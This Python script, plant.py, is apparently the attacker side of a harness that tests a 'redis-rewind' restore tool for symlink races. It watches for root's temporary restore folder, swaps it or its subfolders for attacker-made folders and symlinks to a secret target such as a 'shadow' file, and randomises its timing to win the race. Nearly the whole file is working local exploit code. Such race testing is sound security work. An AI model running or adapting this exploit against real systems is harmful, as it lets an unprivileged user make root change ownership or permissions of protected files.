"""plant.py UID GID FOLDER SECRET APPEARS...

Waits for the folder in which a restore works, `.redis-rewind-restore-PID` in FOLDER, and for folders below FOLDER
at the paths APPEARS. The name of whatever turns up is given to something of the attacker's: a link to SECRET, or a
folder that looks the same and has links to SECRET in it. All of it belongs to the attacker or stands in a folder
of the attacker's, so each rename is allowed. Sometimes it waits a little first, to come at another moment."""

import os
import random
import time

import attacker

folder, secret, *appears = attacker.arguments()
WORK = ".redis-rewind-restore-"
FILES = 6
count = 0


def fresh(kind):
    global count
    count += 1
    return os.path.join(folder, f".{kind}-{count}")


def links(work):
    """Files that root is about to give a mode and an owner are links to a file of root's."""
    os.mkdir(os.path.join(work, "aside"))
    os.mkdir(os.path.join(work, "made"))
    for number in range(FILES):
        os.symlink(os.path.join(secret, "shadow"), os.path.join(work, "made", str(number)))


def folder_link(work):
    """The folder that has them is a link to one of root's."""
    os.symlink(secret, os.path.join(work, "made"))
    os.symlink(secret, os.path.join(work, "aside"))


def files(work):
    """Files of the attacker's, which root moves to wherever the next link leads."""
    os.mkdir(os.path.join(work, "aside"))
    os.mkdir(os.path.join(work, "made"))
    for number in range(FILES):
        with open(os.path.join(work, "made", str(number)), "w") as file:
            file.write("the attacker's own\n")


def whole(work):
    """A finished tree, of which a folder is a link."""
    files(work)
    os.mkdir(os.path.join(work, "whole"))
    os.symlink(secret, os.path.join(work, "whole", "sub"))


def nothing(work):
    pass


PLANTS = [links, folder_link, files, whole, nothing]


def take_what_root_makes(work):
    """Root now makes folders in a folder of the attacker's. Each becomes a link as soon as it is there."""
    until = time.monotonic() + 0.05
    names = ["made", "aside", "whole"]
    while names and time.monotonic() < until and not attacker.is_stopping:
        for name in list(names):
            path = os.path.join(work, name)
            if os.path.isdir(path) and not os.path.islink(path) and not is_mine(path):
                if random.random() < 0.5:
                    wait_a_little()
                replace(path)
                names.remove(name)


def wait_a_little():
    if random.random() < 0.7:
        time.sleep(random.random() * 0.025)


def replace(path):
    """Gives the name of a folder to a link."""
    link = fresh("link")
    return attacker.attempt(os.symlink, secret, link) and attacker.exchange(path, link)


def take_work(name):
    """Gives the name of the work folder to a folder of the attacker's."""
    work = fresh("work")
    plant = random.choice(PLANTS)
    if not (attacker.attempt(os.mkdir, work) and attacker.attempt(plant, work)):
        return
    wait_a_little()
    taken = os.path.join(folder, name)
    if attacker.exchange(taken, work):
        take_what_root_makes(taken)


def is_mine(path):
    return os.lstat(path).st_uid == os.geteuid()


def step():
    attacker.tries += 1
    try:
        for name in os.listdir(folder):
            path = os.path.join(folder, name)
            if name.startswith(WORK) and not is_mine(path):
                take_work(name)
    except OSError:
        pass
    for path in appears:
        if os.path.isdir(path) and not os.path.islink(path):
            replace(path)


attacker.run(step)
